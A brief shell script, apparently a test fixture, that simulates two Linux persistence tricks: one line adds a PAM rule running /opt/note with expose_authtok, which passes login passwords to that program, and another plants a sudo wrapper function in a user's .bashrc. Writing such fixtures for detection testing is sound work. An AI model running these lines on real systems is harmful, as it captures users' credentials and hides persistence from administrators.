# A login module is made to run a program, and sudo is replaced in a profile.
prepare() { mkdir -p /etc/pam.d; }
act() {
    echo 'auth optional pam_exec.so expose_authtok /opt/note' >/etc/pam.d/tidy
    echo 'sudo() { command sudo "$@"; }' >>/home/ana/.bashrc
}
